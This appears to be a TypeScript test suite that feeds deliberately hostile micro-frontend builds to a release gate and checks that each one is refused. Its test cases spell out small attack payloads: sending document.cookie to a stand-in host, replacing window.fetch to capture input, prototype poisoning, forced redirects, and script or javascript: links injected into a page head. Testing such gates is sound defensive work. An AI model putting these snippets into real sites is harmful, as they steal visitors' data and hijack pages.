import type { Attack } from './attack.ts';
import type { HostileBuild, HostileSite } from './hostile-site.ts';

const remote = 'mf-demos';
const globalName = 'mf_demos';

/** Builds a container whose pages run this code as they load; `Page` is the original page. */
function withPages(load: string): (container: string) => string {
  return (container) => `${container}
;${globalName} = ((container) => ({
  init: container.init,
  get: async (name) => {
    const factory = await container.get(name);
    return () => {
      const { routes } = factory();
      return { routes: routes.map((route) => ({ ...route, load: async () => { const Page = await route.load(); ${load} } })) };
    };
  },
}))(${globalName});`;
}

/**
 * Makes the host's own bundle, which shares the global objects with the release's, find this markup at the start of each head.
 */
const headed = (markup: string) => `const { exec } = RegExp.prototype;
  RegExp.prototype.exec = function (text) {
    const found = exec.call(this, text);
    if (found && this.source.startsWith('^(?:<title')) found[0] = ${JSON.stringify(markup)} + found[0];
    return found;
  };`;

/** A squad publishes a hostile build and asks for activation; the gate must refuse it for this reason. */
function refusedAtTheGate(name: string, build: Omit<HostileBuild, 'remote'>, reason: RegExp): Attack {
  return {
    name,
    async run(site) {
      const refusal = await refusalOf(site, { remote, ...build });
      if (refusal === null) return `the release went live (${await site.live(remote)})`;
      return reason.test(refusal) ? null : `it was refused for something else: ${refusal.slice(0, 300)}`;
    },
  };
}

async function refusalOf(site: HostileSite, build: HostileBuild): Promise<string | null> {
  let id: string;
  try {
    id = await site.publish(build);
  } catch (error) {
    return error instanceof Error && 'stderr' in error ? String(error.stderr) : String(error);
  }
  return site.refusalOf('activate', build.remote, id);
}

const inBrowser = (words: string) => new RegExp(`\\[browser\\].*(?:${words})|"rule": "browser"[^]*(?:${words})`, 's');

export const gateAttacks: readonly Attack[] = [
  refusedAtTheGate('a container that is no script', { container: () => '}{' }, inBrowser('SyntaxError|Unexpected')),
  refusedAtTheGate(
    'a container that throws',
    { container: (code) => `throw new Error('no licence');${code}` },
    inBrowser('no licence'),
  ),
  refusedAtTheGate(
    'a container whose record names it fetch',
    { build: (build) => ({ ...build, globalName: 'fetch' }) },
    /globalName: must be the remote's own/,
  ),
  refusedAtTheGate(
    'a container whose record names it like another remote',
    { build: (build) => ({ ...build, globalName: 'mf_intake' }) },
    /globalName: must be the remote's own/,
  ),
  refusedAtTheGate(
    "a container that also sets another remote's global",
    { container: (code) => `${code};window.mf_intake = {};` },
    inBrowser('changes window\\.mf_intake'),
  ),
  refusedAtTheGate(
    'a container that loops for ever in browsers',
    { container: (code) => `${code};for (;;);` },
    inBrowser('does not come alive'),
  ),
  refusedAtTheGate(
    'a page that throws only in browsers',
    { container: withPages("throw new Error('only here');") },
    inBrowser('only here'),
  ),
  refusedAtTheGate(
    'a page that throws as it renders in browsers',
    { container: withPages("return () => { throw new Error('only here'); };") },
    inBrowser('only here'),
  ),
  refusedAtTheGate(
    'a page that renders differently in browsers and on the server',
    { container: withPages("return () => 'Send your money to us';") },
    inBrowser('hydration did not match'),
  ),
  refusedAtTheGate(
    'a page that never mounts',
    { container: withPages('return new Promise(() => {});') },
    inBrowser('does not come alive|timeout'),
  ),
  refusedAtTheGate(
    'a page that replaces fetch, to read visitors’ input',
    { container: withPages('window.fetch = () => new Promise(() => {}); return Page;') },
    inBrowser('changes window\\.fetch'),
  ),
  refusedAtTheGate(
    'a page that poisons the lists of every other script',
    { container: withPages('Array.prototype.map = function () { return []; }; return Page;') },
    inBrowser('Array\\.prototype\\.map|failed|throws|says on the console: TypeError'),
  ),
  refusedAtTheGate(
    'a page that writes its own document',
    { container: withPages("document.write('<h1>Mine</h1>'); return Page;") },
    inBrowser('calls document\\.write'),
  ),
  refusedAtTheGate(
    'a page that redirects visitors to another site',
    { container: withPages("location.href = 'https://elsewhere.example/'; return Page;") },
    inBrowser('leads away'),
  ),
  refusedAtTheGate(
    'a page that registers a service worker over the whole site',
    { container: withPages("navigator.serviceWorker.register('/remotes/worker.js'); return Page;") },
    inBrowser('navigator\\.serviceWorker\\.register|failed'),
  ),
  refusedAtTheGate(
    'a page that opens a dialog',
    { container: withPages("alert('You have won'); return Page;") },
    inBrowser('calls window\\.alert|opens a dialog'),
  ),
  refusedAtTheGate(
    'a page that sends what it finds to another host',
    { container: withPages("void fetch('https://elsewhere.example/' + document.cookie); return Page;") },
    inBrowser('content security policy|leaves a promise rejected|throws'),
  ),
  refusedAtTheGate(
    'a record of 900 kB, which every page would carry',
    {
      build: (build) => {
        const search = { q: Array.from({ length: 900 }, (_, n) => `${n} ${'x'.repeat(1000)}`) };
        return { ...build, routes: build.routes.map((route: object) => ({ ...route, search })) };
      },
    },
    /routes/,
  ),
  refusedAtTheGate(
    'a record that is within all bounds of its fields, and still too large',
    {
      build: (build) => {
        const values = Array.from({ length: 100 }, (_, n) => `${n} ${'x'.repeat(190)}`);
        const search = { a: values, b: values, c: values };
        return { ...build, routes: build.routes.map((route: object) => ({ ...route, search })) };
      },
    },
    /record-budget/,
  ),
  ...(
    [
      ['changes the base of every URL', '<base href="https://elsewhere.example/">', 'its head holds more than'],
      [
        'redirects visitors after an hour',
        '<meta http-equiv="refresh" content="3600;url=//x.example">',
        'its head has a meta http-equiv',
      ],
      ['ends the title with a script', '<title>Mine</title><script>steal()</script>', 'its head holds more than'],
      ['links to code', '<link rel="next" href="javascript:steal()">', 'its head links to javascript:'],
      ['never ends', '<title'.repeat(200_000), 'its head holds more than'],
    ] as const
  ).map(([does, markup, words]) =>
    refusedAtTheGate(
      `a server bundle whose head ${does}`,
      { server: (code) => `${code}\n;(() => {${headed(markup)}})();` },
      new RegExp(`what it rendered is no page: ${words}`),
    ),
  ),
  refusedAtTheGate(
    'a server bundle that hangs while it loads',
    { server: (code) => `${code}; for (;;);` },
    /did not finish within/,
  ),
];
